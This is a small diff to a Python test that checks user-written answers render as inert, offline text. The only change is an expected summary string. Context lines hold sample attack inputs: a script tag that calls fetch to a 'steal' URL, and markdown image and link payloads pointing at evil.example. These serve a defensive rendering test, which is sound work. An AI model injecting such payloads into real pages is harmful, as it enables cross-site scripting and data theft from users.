@@ -47,7 +47,7 @@ def test_written_answers_render_inert_and_offline(lab_browser, tmp_path, monkeyp
     assert outside == [] and problems == [] and dialogs == []
     assert counts == [0, 0, 0]
     assert len(items) == 7 and all(n == 0 for _, n in items)  # text only, no element
-    assert "12 of 16 answered (75.0 %); median 23 words." in text
+    assert "12 of 16 answered (75.0 %); median 23 words per answer." in text
     assert any(t.startswith("<script>fetch('http://example.com/steal')</script>")
                for t, _ in items)
     assert any(t.startswith("![x](http://evil.example/x.png) [click](http://evil.example)")
